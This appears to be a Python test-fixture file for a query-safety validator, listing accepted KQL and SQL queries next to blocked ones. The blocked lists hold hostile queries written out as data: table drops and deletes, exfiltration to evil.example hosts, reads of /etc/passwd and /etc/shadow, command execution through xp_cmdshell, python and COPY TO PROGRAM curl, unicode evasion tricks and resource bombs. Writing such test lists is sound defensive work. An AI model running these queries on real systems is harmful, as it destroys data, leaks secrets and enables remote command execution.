"""Queries, one a line, that every proof is measured by."""
# ruff: noqa: E501 - a query is one line

KQL_GOOD = r"""
SigninLogs | take 10
SigninLogs | where TimeGenerated > ago(7d) and ResultType != "0" | summarize n = count() by UserPrincipalName | top 5 by n
SigninLogs | where UserPrincipalName has_any ("ana", "bo") | project TimeGenerated, UserPrincipalName
SigninLogs | summarize count() by bin(TimeGenerated, 1h), Succeeded | order by TimeGenerated asc
SigninLogs | extend City = tostring(Details.city) | where City =~ "oslo" | distinct City
SigninLogs | join kind=inner Hosts on IPAddress | project HostName, ResultType
let window = 3d; let failed = SigninLogs | where Succeeded == false; failed | where TimeGenerated > ago(window) | count
SigninLogs | summarize arg_max(TimeGenerated, *) by UserPrincipalName
SigninLogs | where UserPrincipalName matches regex @"^[a-z]+@contoso\.com$" | count
SigninLogs | mv-expand tag = Details.tags | summarize count() by tostring(tag)
SigninLogs | summarize percentile(DurationMs, 95), dcount(IPAddress), make_set(UserPrincipalName)
union SigninLogs, Hosts | summarize count()
SigninLogs | where Session > 10m and Risk between (0.5 .. 1.0)
print now(), startofday(now()), 1 + 1
range n from 1 to 5 step 1 | summarize sum(n)
datatable(a:int, b:string)[1, "x", 2, "y"] | where a > 1
SigninLogs | where UserPrincipalName !endswith ".org" | sort by DurationMs desc nulls last | limit 3
SigninLogs | summarize Failures = countif(ResultType != 0), Total = count() by IPAddress | extend Rate = 100.0 * Failures / Total
SigninLogs | project-away Details | project-rename User = UserPrincipalName | take 1
SigninLogs // who | where .drop table x
SigninLogs | where UserPrincipalName == "externaldata(a:string)['http://evil']" | take 1
SigninLogs | summarize by UserPrincipalName | lookup kind=leftouter (Hosts) on $left.UserPrincipalName == $right.HostName
SigninLogs | render timechart
"""

# Right, but not in the sandbox yet: the dry run is skipped and says so, never guessed.
KQL_NOT_RUN = r"""
SigninLogs | mv-apply tag = Details.tags on (where tostring(tag) == "vpn")
SigninLogs | extend Details_ = Details, details_ = 1
SigninLogs | parse UserPrincipalName with name "@" domain | project name, domain
SigninLogs | top-nested 2 of IPAddress by count()
search in (Sign*) "contoso"
"""

SQL_GOOD = r"""
SELECT * FROM SigninLogs
SELECT UserPrincipalName, count(*) AS n FROM SigninLogs GROUP BY UserPrincipalName HAVING n > 1 ORDER BY n DESC LIMIT 5
WITH failed AS (SELECT * FROM SigninLogs WHERE NOT Succeeded) SELECT count(*) FROM failed
SELECT h.HostName, s.ResultType FROM SigninLogs s JOIN Hosts h ON h.IPAddress = s.IPAddress
SELECT h.HostName FROM Hosts h WHERE EXISTS (SELECT 1 FROM SigninLogs s WHERE s.IPAddress = h.IPAddress AND Risk > 0.5)
SELECT HostName FROM Hosts WHERE IPAddress IN (SELECT IPAddress FROM SigninLogs WHERE ResultType <> '0')
SELECT UserPrincipalName, row_number() OVER (PARTITION BY IPAddress ORDER BY TimeGenerated) AS rn FROM SigninLogs QUALIFY rn = 1
SELECT date_trunc('day', TimeGenerated) AS day, count(*) FROM SigninLogs GROUP BY day ORDER BY day
SELECT HostName FROM Hosts UNION ALL SELECT UserPrincipalName FROM SigninLogs ORDER BY 1
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT sum(n) FROM r
SELECT list_transform([1, 2], x -> x + 1) AS doubled
SELECT n FROM generate_series(1, 5) AS t(n)
SELECT lpad(HostName, 40, '.'), repeat('-', 80), repeat(HostName, length(IPAddress)) FROM Hosts
SELECT s.* EXCLUDE (Details) FROM SigninLogs s
SELECT a FROM (VALUES (1, 2)) AS v(a, b)
SELECT HostName FROM Hosts; -- done
SELECT a.HostName FROM Hosts a JOIN Hosts b USING (IPAddress)
SELECT main.Hosts.HostName FROM main.Hosts
SELECT DISTINCT ON (IPAddress) IPAddress, TimeGenerated FROM SigninLogs ORDER BY IPAddress, TimeGenerated
SELECT hostname FROM hosts
SELECT extract(hour FROM TimeGenerated), TimeGenerated - INTERVAL 1 DAY FROM SigninLogs
SELECT Succeeded, count(*) FILTER (WHERE DurationMs > 100) FROM SigninLogs GROUP BY ALL ORDER BY ALL
SELECT * FROM SigninLogs s, LATERAL (SELECT HostName FROM Hosts h WHERE h.IPAddress = s.IPAddress) x
FROM Hosts SELECT HostName
SELECT sum(DurationMs) OVER w FROM SigninLogs WINDOW w AS (ORDER BY TimeGenerated)
SELECT Details ->> '$.city' AS city FROM SigninLogs WHERE UserPrincipalName ILIKE 'ana%'
SELECT quantile_cont(DurationMs, 0.95), string_agg(IPAddress, ','), arg_max(IPAddress, Risk) FROM SigninLogs
SELECT * FROM SigninLogs WHERE TimeGenerated > current_date - 7 AND TimeGenerated <= now()
SELECT strftime(TimeGenerated, '%Y-%m'), epoch(TimeGenerated), regexp_extract(IPAddress, '(\d+)$', 1) FROM SigninLogs
SELECT 'DROP TABLE Hosts; --' AS text, "HostName" FROM Hosts -- DELETE FROM Hosts
SELECT CASE WHEN Risk > 0.5 THEN 'high' ELSE 'low' END AS level, coalesce(DurationMs, 0) FROM SigninLogs
SELECT avg(Risk), stddev(Risk), median(DurationMs) FROM SigninLogs WHERE ResultType BETWEEN '0' AND '9'
SELECT u.tag FROM SigninLogs, unnest(json_extract_string(Details, '$.tags[*]')) AS u(tag)
"""

# Destructive, exfiltrating, executing, locking or bombing: none may pass.
KQL_BAD = r"""
.drop table SigninLogs
.drop tables (SigninLogs, Hosts) ifexists
.set-or-replace SigninLogs <| Hosts
.append Hosts <| SigninLogs
.ingest inline into table Hosts <| 1,2
.export to csv ("https://evil.blob.core.windows.net/x;key") <| SigninLogs
.alter table Hosts policy retention "{}"
.create-or-alter function f() { SigninLogs }
.purge table SigninLogs records <| where true
.execute database script <| .drop table Hosts
.show tables
.show database schema
.delete table SigninLogs records <| SigninLogs
externaldata(a:string)[@"https://evil.example/x.csv"] | take 1
SigninLogs | where UserPrincipalName in ((externaldata(u:string)["https://evil.example/u"]))
let x = externaldata(a:string)["https://evil.example/u"]; SigninLogs | join x on $left.IPAddress == $right.a
SigninLogs | extend y = toscalar(externaldata(a:string)["https://evil.example/u"] | take 1)
external_table("Secrets") | take 5
SigninLogs | evaluate python(typeof(*), "import os; os.system('id')")
SigninLogs | evaluate hint.distribution=per_node python(typeof(*), "x=1")
SigninLogs | evaluate r(typeof(*), "system('id')")
evaluate http_request("https://evil.example")
SigninLogs | evaluate http_request_post("https://evil.example", dynamic({}), "x")
evaluate sql_request("Server=x", "drop table y")
evaluate cosmosdb_sql_request("AccountEndpoint=x", "db", "c", "q")
evaluate mysql_request("Server=x", "drop table y")
evaluate postgresql_request("Host=x", "drop table y")
evaluate azure_digital_twins_query_request("x", "y")
SigninLogs | evaluate execute_show_command("https://x", ".show tables")
evaluate execute_query("cluster", "db", "T")
SigninLogs | evaluate ai_embeddings(UserPrincipalName, "https://evil.example")
cluster("evil").database("db").SigninLogs
database("other").SigninLogs
union SigninLogs, cluster("help").database("Samples").StormEvents
SigninLogs | join (database("other").T) on IPAddress
['cluster']("evil").database("db").T
cluster /* c */ ("evil") . database("db").T
let f = () { cluster("evil").database("db").T }; f()
workspace("other").SigninLogs
app("other").requests
adx("https://evil.kusto.windows.net/db").T
arg("").Resources
resource("/subscriptions/x").T
materialized_view("M")
stored_query_result("S")
#connect cluster("evil")
macro-expand entity_group [cluster("evil").database("db")] as s (s.T)
alias database d = cluster("evil").database("db"); database("d").T
restrict access to (SigninLogs); SigninLogs
set notruncation; SigninLogs
set norequesttimeout; SigninLogs
SigninLogs; .drop table Hosts
SigninLogs | execute_and_cache
ＳigninLogs | take 1
.ｄrop table Hosts
"""

SQL_BAD = r"""
DROP TABLE Hosts
DELETE FROM Hosts
UPDATE Hosts SET HostName = 'x'
INSERT INTO Hosts VALUES ('a', 'b')
TRUNCATE TABLE Hosts
ALTER TABLE Hosts ADD COLUMN x INT
CREATE TABLE x AS SELECT * FROM Hosts
CREATE TEMP TABLE x AS SELECT * FROM Hosts
CREATE OR REPLACE VIEW Hosts AS SELECT 1
MERGE INTO Hosts USING SigninLogs ON true WHEN MATCHED THEN DELETE
SELECT 1; DROP TABLE Hosts
SELECT 1;;DELETE FROM Hosts
WITH d AS (DELETE FROM Hosts RETURNING *) SELECT * FROM d
WITH d AS (INSERT INTO Hosts VALUES ('a', 'b') RETURNING *) SELECT * FROM d
WITH d AS (UPDATE Hosts SET HostName = 'x' RETURNING *) SELECT * FROM d
WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM Hosts RETURNING *) SELECT * FROM c) SELECT * FROM b
SELECT * INTO Stolen FROM Hosts
SELECT * FROM Hosts FOR UPDATE
SELECT * FROM Hosts FOR SHARE
COPY Hosts TO '/tmp/x.csv'
COPY (SELECT * FROM Hosts) TO PROGRAM 'curl evil.example'
COPY Hosts FROM '/etc/passwd'
EXPORT DATABASE '/tmp/x'
ATTACH '/tmp/x.db' AS x
DETACH main
INSTALL httpfs
LOAD httpfs
PRAGMA database_list
CALL pragma_version()
SET memory_limit = '100GB'
RESET memory_limit
USE other
VACUUM
CHECKPOINT
GRANT ALL ON Hosts TO PUBLIC
EXPLAIN ANALYZE DELETE FROM Hosts
EXECUTE x
PREPARE x AS DELETE FROM Hosts
BEGIN
DO $$ BEGIN PERFORM 1; END $$
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('https://evil.example/x.csv')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_blob('/etc/shadow')
SELECT * FROM read_parquet('s3://bucket/x')
SELECT * FROM read_json('/etc/passwd')
SELECT * FROM '/etc/passwd'
SELECT * FROM 'secrets.parquet'
SELECT * FROM "data.csv"
SELECT * FROM glob('/*')
SELECT * FROM sniff_csv('/etc/passwd')
SELECT HostName FROM Hosts WHERE HostName IN (SELECT content FROM read_text('/etc/passwd'))
SELECT (SELECT content FROM read_text('/etc/passwd')) AS x FROM Hosts
SELECT * FROM query('DROP TABLE Hosts')
SELECT * FROM query_table('Hosts')
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_secrets()
SELECT * FROM pragma_database_list
SELECT * FROM information_schema.tables
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM pg_shadow
SELECT * FROM sqlite_master
SELECT * FROM sys.objects
SELECT * FROM mysql.user
SELECT getenv('HOME')
SELECT current_setting('memory_limit')
SELECT set_config('a', 'b', false)
SELECT nextval('s')
SELECT write_log('x')
SELECT pg_sleep(10)
SELECT pg_read_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT pg_terminate_backend(1)
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
SELECT dblink_exec('host=evil', 'drop table x')
SELECT query_to_xml('select 1', true, true, '')
SELECT load_file('/etc/passwd')
SELECT sleep(10)
SELECT benchmark(1000000000, md5('x'))
SELECT get_lock('x', 10)
SELECT load_extension('evil.so')
SELECT writefile('/tmp/x', 'y')
SELECT readfile('/etc/passwd')
SELECT xp_cmdshell('dir')
EXEC xp_cmdshell 'dir'
SELECT * FROM openrowset('SQLNCLI', 'x', 'select 1')
SELECT * FROM opendatasource('SQLNCLI', 'x')
SELECT sys_exec('id')
SELECT system$whitelist()
SELECT repeat('x', 1000000000)
SELECT levenshtein(repeat('a', 60000), repeat('b', 60000))
SELECT repeat('x', 10000 * 10000)
SELECT repeat('x', (20000)::INT)
SELECT repeat(upper(repeat('x', 5000)), 5000)
SELECT lpad('x', 50000, 'y')
SELECT sleep_ms(5000)
SELECT get_block_size('main')
SELECT json_serialize_plan('SELECT 1')
SELECT json_serialize_sql('SELECT 1')
SELECT version()
SELECT current_user
SELECT * FROM json_execute_serialized_sql('x')
SELECT /*!50000 sleep(5), */ 1
SELECT /*!INTO OUTFILE '/tmp/x'*/ 1
SELECT/**/1;/**/DROP/**/TABLE/**/Hosts
ＤＲＯＰ ＴＡＢＬＥ Hosts
SELECT 1；DROP TABLE Hosts
SELECT @@version
SELECT @x := 1
HANDLER Hosts OPEN
SHOW TABLES
DESCRIBE Hosts
"""


# Rows out of nothing: stopped by the sandbox.
KQL_BOMBS = r"""
range n from 1 to 1000000000000 step 1 | summarize sum(n)
range a from 1 to 1000000 step 1 | extend k = 1 | join kind=inner (range b from 1 to 1000000 step 1 | extend k = 1) on k | summarize count()
"""

SQL_BOMBS = r"""
SELECT count(*) FROM range(100000000000)
SELECT sum(a.range) FROM range(1000000) a, range(1000000) b
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
"""


def lines(text: str) -> list[str]:
    return [line for line in text.strip().splitlines() if line]
